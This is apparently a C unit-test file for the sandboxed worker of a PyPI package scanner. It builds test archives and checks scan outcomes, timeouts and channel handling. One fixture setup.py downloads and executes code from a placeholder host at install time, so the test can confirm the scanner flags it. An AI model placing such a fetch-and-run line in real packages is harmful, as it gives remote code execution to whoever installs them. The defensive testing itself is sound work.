/* SPDX-License-Identifier: Apache-2.0 */
/*
 * worker: the real program is given real files over its real channel, with
 * the sandbox of this kernel; nothing that a file or a peer does ends it.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <archive.h>
#include <archive_entry.h>
#include <cmocka.h>

#include "base/buf.h"
#include "base/ipc.h"
#include "base/log.h"
#include "base/mem.h"
#include "base/memfd.h"
#include "base/proc.h"
#include "base/sandbox.h"
#include "base/str.h"
#include "data/finding.h"
#include "data/messages.h"

static struct {
	pid_t	pid;
	int	channel;
} worker;

/* ---- the worker ----------------------------------------------------------- */

static void
worker_start(const char *limits)
{
	char		*path = mem_printf("%s/pypiwatch-worker",
			    getenv("top_builddir"));
	char		*argv[] = { mem_strdup("pypiwatch-worker"),
			    mem_strdup("--role"), NULL };
	char		*text;
	struct msg_hello hello;
	int		 pair[2], fds[2], complete;

	(void)sandbox_offer(&complete);
	text = mem_printf("rules { directory = \"%s/etc/rules\" }\n"
	    "daemon { sandbox-required = %s }\nlimits { %s }\n",
	    getenv("top_srcdir"), complete ? "yes" : "no", limits);
	assert_int_equal(ipc_pair(pair), 0);
	fds[0] = pair[1];
	fds[1] = memfd_of("config", text, strlen(text));
	worker.pid = proc_spawn(path, argv, fds, 2);
	worker.channel = pair[0];
	close(fds[0]);
	close(fds[1]);
	free(path);
	free(text);
	free(argv[0]);
	free(argv[1]);
	assert_int_equal(ipc_read(worker.channel, MSG_HELLO, &msg_hello_desc,
	    &hello), 1);
	assert_int_equal(hello.protocol, IPC_PROTOCOL);
	assert_string_equal(hello.role, "worker");
	wire_release(&msg_hello_desc, &hello);
}

static int
start_plain(void **state)
{
	(void)state;
	worker_start("child-wall = 60 child-cpu = 50");
	return 0;
}

static int
start_hasty(void **state)
{
	(void)state;
	worker_start("child-wall = 1 child-cpu = 1");
	return 0;
}

/* Its own time only, since on a busy machine a second may hold little of it. */
static int
start_frugal(void **state)
{
	(void)state;
	worker_start("child-wall = 60 child-cpu = 1");
	return 0;
}

/* Closing its channel is what ends a worker. */
static int
stop(void **state)
{
	int status;

	(void)state;
	close(worker.channel);
	return waitpid(worker.pid, &status, 0) == worker.pid && status == 0 ?
	    0 : -1;
}

/* As channel_send does it. */
static void
send_inspect(int64_t id, const char *filename, int memfd, int reply)
{
	struct msg_inspect	m = { .id = id,
	    .project = mem_strdup("foo"), .version = mem_strdup("1.0"),
	    .filename = mem_strdup(filename), .packagetype =
	    str_ends(filename, ".whl") ? PACKAGE_WHEEL : PACKAGE_SDIST };
	struct buf		b = BUF_EMPTY;
	union { char room[CMSG_SPACE(2 * sizeof(int))]; struct cmsghdr h; } c;
	struct iovec		iov;
	struct msghdr		msg = { .msg_iov = &iov, .msg_iovlen = 1,
	    .msg_control = &c, .msg_controllen = sizeof(c.room) };
	const int		fds[2] = { memfd, reply };

	buf_addc(&b, (char)(MSG_INSPECT & 0xff));
	buf_addc(&b, (char)(MSG_INSPECT >> 8));
	wire_put(&msg_inspect_desc, &m, &b);
	iov = (struct iovec){ b.data, b.len };
	memset(&c, 0, sizeof(c));
	c.h = (struct cmsghdr){ .cmsg_level = SOL_SOCKET,
	    .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(fds)) };
	memcpy(CMSG_DATA(&c.h), fds, sizeof(fds));
	assert_int_equal(sendmsg(worker.channel, &msg, 0), b.len);
	buf_release(&b);
	wire_release(&msg_inspect_desc, &m);
}

/* 1 and *f when the child answered, 0 when it ended without. */
static int
inspect_fd(const char *filename, int memfd, struct features *f,
    struct msg_inspected *end)
{
	int pair[2], got;

	assert_int_equal(ipc_pair(pair), 0);
	send_inspect(7, filename, memfd, pair[1]);
	close(pair[1]);
	got = ipc_read(pair[0], REPLY_FEATURES, &features_desc, f);
	close(pair[0]);
	assert_int_equal(ipc_read(worker.channel, MSG_INSPECTED,
	    &msg_inspected_desc, end), 1);
	assert_int_equal(end->id, 7);
	return got;
}

static int
inspect(const char *filename, const struct buf *bytes, struct features *f,
    struct msg_inspected *end)
{
	int memfd = memfd_of("file", buf_text(bytes), bytes->len);
	int got = inspect_fd(filename, memfd, f, end);

	close(memfd);
	return got;
}

/* ---- files ----------------------------------------------------------------- */

static ssize_t
collect(struct archive *a, void *out, const void *bytes, size_t len)
{
	(void)a;
	buf_add(out, bytes, len);
	return (ssize_t)len;
}

static void
member_add(struct archive *a, const char *path, const void *data, size_t len)
{
	struct archive_entry *e = archive_entry_new();

	archive_entry_set_pathname(e, path);
	archive_entry_set_filetype(e, AE_IFREG);
	archive_entry_set_perm(e, 0644);
	archive_entry_set_size(e, (la_int64_t)len);
	assert_int_equal(archive_write_header(a, e), ARCHIVE_OK);
	assert_int_equal(archive_write_data(a, data, len), len);
	archive_entry_free(e);
}

/* foo-1.0.tar.gz with `n` modules that are not text. */
static void
sdist_make(struct buf *out, unsigned int n)
{
	static const char meta[] = "Metadata-Version: 2.1\nName: foo\n"
	    "Version: 1.0\n";
	static const char setup[] = "from setuptools import setup\nsetup()\n";
	struct archive	*a = archive_write_new();
	char		 path[1000];

	archive_write_add_filter_gzip(a);
	archive_write_set_format_pax(a);
	archive_write_open2(a, out, NULL, collect, NULL, NULL);
	member_add(a, "foo-1.0/PKG-INFO", meta, sizeof(meta) - 1);
	member_add(a, "foo-1.0/setup.py", setup, sizeof(setup) - 1);
	for (unsigned int i = 0; i < n; i++) {
		(void)snprintf(path, sizeof(path), "foo-1.0/%0900u.py", i);
		member_add(a, path, "\0\1\2\3\0\0\0\0", 8);
	}
	archive_write_close(a);
	archive_write_free(a);
}

/* A wheel with a package, a module, somebody's namespace and stray tests. */
static void
wheel_make(struct buf *out)
{
	static const char meta[] = "Metadata-Version: 2.1\nName: foo\n"
	    "Version: 1.0\n";
	static const char *const modules[] = { "Foo_Bar/__init__.py",
		"Foo_Bar/x.py", "single.py", "google/foo/__init__.py",
		"tests/__init__.py", "_foo.py", "foo/__init__.py" };
	struct archive	*a = archive_write_new();

	archive_write_set_format_zip(a);
	archive_write_open2(a, out, NULL, collect, NULL, NULL);
	for (size_t i = 0; i < ARRAY_LEN(modules); i++)
		member_add(a, modules[i], "x = 1\n", 6);
	member_add(a, "foo-1.0.dist-info/METADATA", meta, sizeof(meta) - 1);
	member_add(a, "foo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n", 19);
	archive_write_close(a);
	archive_write_free(a);
}

/* ---- tests ----------------------------------------------------------------- */

static void
ordinary_file(void **state)
{
	struct buf		b = BUF_EMPTY;
	struct features		f;
	struct msg_inspected	end;
	char			sha256[SHA256_HEX + 1];

	(void)state;
	sdist_make(&b, 0);
	sha256_hex(b.data, b.len, sha256);
	for (int i = 0; i < 3; i++) {
		assert_int_equal(inspect("foo-1.0.tar.gz", &b, &f, &end), 1);
		assert_true(end.clean);
		assert_string_equal(f.sha256, sha256);
		assert_int_equal(f.outcome, SCAN_SCANNED);
		assert_int_equal(f.entries, 2);
		assert_string_equal(f.metadata.name, "foo");
		features_release(&f);
	}
	buf_release(&b);
}

/* What code imports of it, other than by the project's own name. */
static void
imports_of_wheel(void **state)
{
	struct buf		b = BUF_EMPTY;
	struct features		f;
	struct msg_inspected	end;

	(void)state;
	wheel_make(&b);
	assert_int_equal(inspect("foo-1.0-py3-none-any.whl", &b, &f, &end), 1);
	assert_true(end.clean);
	assert_int_equal(f.outcome, SCAN_SCANNED);
	assert_non_null(f.imports);
	assert_string_equal(f.imports, "foo-bar single");
	features_release(&f);
	buf_release(&b);
}

/* More findings than a message holds: they arrive all the same. */
static void
many_findings(void **state)
{
	struct buf		b = BUF_EMPTY;
	struct features		f;
	struct msg_inspected	end;

	(void)state;
	sdist_make(&b, 300);
	assert_int_equal(inspect("foo-1.0.tar.gz", &b, &f, &end), 1);
	assert_true(end.clean);
	assert_true(f.nfindings > 0);
	features_release(&f);
	buf_release(&b);
}

static void
no_archive(void **state)
{
	struct buf		b = BUF_EMPTY;
	struct features		f;
	struct msg_inspected	end;

	(void)state;
	assert_int_equal(inspect("foo-1.0.tar.gz", &b, &f, &end), 1);
	assert_int_equal(f.outcome, SCAN_UNSCANNABLE);
	features_release(&f);
	buf_adds(&b, "this is no archive");
	assert_int_equal(inspect("foo-1.0.tar.gz", &b, &f, &end), 1);
	assert_int_equal(f.outcome, SCAN_UNSCANNABLE);
	assert_true(end.clean);
	features_release(&f);
	buf_release(&b);
}

static void
unsealed_file(void **state)
{
	struct features		f;
	struct msg_inspected	end;
	int			fd = memfd_new("file");

	(void)state;
	assert_int_equal(write(fd, "abc", 3), 3);
	assert_int_equal(inspect_fd("foo-1.0.tar.gz", fd, &f, &end), 0);
	assert_false(end.clean);
	assert_int_equal(end.signal, 0);
	close(fd);
}

/* The reader of the answer has gone. */
static void
nobody_listens(void **state)
{
	struct buf		b = BUF_EMPTY;
	struct msg_inspected	end;
	int			pair[2], memfd;

	(void)state;
	sdist_make(&b, 1);
	memfd = memfd_of("file", b.data, b.len);
	assert_int_equal(ipc_pair(pair), 0);
	close(pair[0]);
	send_inspect(9, "foo-1.0.tar.gz", memfd, pair[1]);
	close(pair[1]);
	close(memfd);
	assert_int_equal(ipc_read(worker.channel, MSG_INSPECTED,
	    &msg_inspected_desc, &end), 1);
	assert_int_equal(end.id, 9);
	assert_false(end.clean);
	buf_release(&b);
	ordinary_file(state);
}

/* The child cannot get rid of its answer, so the wall clock ends it. */
static void
out_of_time(void **state)
{
	struct buf		b = BUF_EMPTY;
	struct msg_inspected	end;
	char			full[1000] = "";
	int			pair[2], memfd;

	(void)state;
	sdist_make(&b, 100);
	memfd = memfd_of("file", b.data, b.len);
	assert_int_equal(ipc_pair(pair), 0);
	while (send(pair[1], full, sizeof(full), MSG_DONTWAIT) != -1)
		continue;
	send_inspect(9, "foo-1.0.tar.gz", memfd, pair[1]);
	close(pair[1]);
	close(memfd);
	assert_int_equal(ipc_read(worker.channel, MSG_INSPECTED,
	    &msg_inspected_desc, &end), 1);
	assert_true(end.timed_out);
	assert_int_equal(end.signal, SIGKILL);
	assert_false(end.clean);
	close(pair[0]);
	buf_release(&b);
	ordinary_file(state);
}

/* An installer that acts, before more code than the time is enough for. */
static void
exhausting_make(struct buf *out)
{
	static const char setup[] = "import urllib.request\n"
	    "exec(urllib.request.urlopen('https://x.example.invalid/a')"
	    ".read())\n";
	struct archive	*a = archive_write_new();
	struct buf	 code = BUF_EMPTY;
	char		 path[64];

	for (int i = 0; i < 12000; i++)
		buf_addf(&code, "def f%d(a, b=%d):\n    return [a] * b\n", i,
		    i);
	archive_write_add_filter_gzip(a);
	archive_write_set_format_pax(a);
	archive_write_open2(a, out, NULL, collect, NULL, NULL);
	member_add(a, "foo-1.0/setup.py", setup, sizeof(setup) - 1);
	for (int i = 0; i < 200; i++) {
		(void)snprintf(path, sizeof(path), "foo-1.0/m%d.py", i);
		member_add(a, path, code.data, code.len);
	}
	archive_write_close(a);
	archive_write_free(a);
	buf_release(&code);
}

/* What was found before the time was up is not lost. */
static void
answers_so_far(void **state)
{
	struct buf		b = BUF_EMPTY;
	struct features		f;
	struct msg_inspected	end;
	char			sha256[SHA256_HEX + 1];
	bool			found = false;

	(void)state;
	exhausting_make(&b);
	sha256_hex(b.data, b.len, sha256);
	assert_int_equal(inspect("foo-1.0.tar.gz", &b, &f, &end), 1);
	assert_false(end.clean);
	assert_true(end.timed_out);
	assert_string_equal(f.sha256, sha256);
	for (size_t i = 0; i < f.nfindings; i++)
		found = found || (f.findings[i].context == CONTEXT_INSTALL &&
		    strcmp(f.findings[i].rule, "exec-downloaded") == 0);
	assert_true(found);
	features_release(&f);
	buf_release(&b);
	ordinary_file(state);
}

/* Several at once, more than it ever asked for: each is answered. */
static void
many_at_once(void **state)
{
	struct buf		b = BUF_EMPTY;
	struct msg_inspected	end;
	int			pair[2], memfd;
	unsigned int		seen = 0;

	(void)state;
	sdist_make(&b, 3);
	memfd = memfd_of("file", b.data, b.len);
	for (int64_t i = 0; i < 20; i++) {
		assert_int_equal(ipc_pair(pair), 0);
		send_inspect(i, "foo-1.0.tar.gz", memfd, pair[1]);
		close(pair[0]);
		close(pair[1]);
	}
	for (int i = 0; i < 20; i++) {
		assert_int_equal(ipc_read(worker.channel, MSG_INSPECTED,
		    &msg_inspected_desc, &end), 1);
		seen |= 1u << end.id;
	}
	assert_int_equal(seen, (1u << 20) - 1);
	close(memfd);
	buf_release(&b);
}

static void
damaged_targets(void **state)
{
	int		fd = memfd_of("targets", "nonsense", 8);
	union { char room[CMSG_SPACE(sizeof(int))]; struct cmsghdr h; } c;
	char		type[2] = { (char)(MSG_TARGETS & 0xff),
	    (char)(MSG_TARGETS >> 8) };
	struct iovec	iov = { type, sizeof(type) };
	struct msghdr	msg = { .msg_iov = &iov, .msg_iovlen = 1,
	    .msg_control = &c, .msg_controllen = sizeof(c.room) };

	memset(&c, 0, sizeof(c));
	c.h = (struct cmsghdr){ .cmsg_level = SOL_SOCKET,
	    .cmsg_type = SCM_RIGHTS, .cmsg_len = CMSG_LEN(sizeof(fd)) };
	memcpy(CMSG_DATA(&c.h), &fd, sizeof(fd));
	assert_int_equal(sendmsg(worker.channel, &msg, 0), sizeof(type));
	close(fd);
	ordinary_file(state);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test_setup_teardown(ordinary_file, start_plain,
		    stop),
		cmocka_unit_test_setup_teardown(imports_of_wheel, start_plain,
		    stop),
		cmocka_unit_test_setup_teardown(many_findings, start_plain,
		    stop),
		cmocka_unit_test_setup_teardown(no_archive, start_plain, stop),
		cmocka_unit_test_setup_teardown(unsealed_file, start_plain,
		    stop),
		cmocka_unit_test_setup_teardown(nobody_listens, start_plain,
		    stop),
		cmocka_unit_test_setup_teardown(out_of_time, start_hasty,
		    stop),
		cmocka_unit_test_setup_teardown(answers_so_far, start_frugal,
		    stop),
		cmocka_unit_test_setup_teardown(many_at_once, start_plain,
		    stop),
		cmocka_unit_test_setup_teardown(damaged_targets, start_plain,
		    stop),
	};

	log_open("test", LOG_LEVEL_ERROR);
	(void)signal(SIGPIPE, SIG_IGN);
	return cmocka_run_group_tests(tests, NULL, NULL);
}
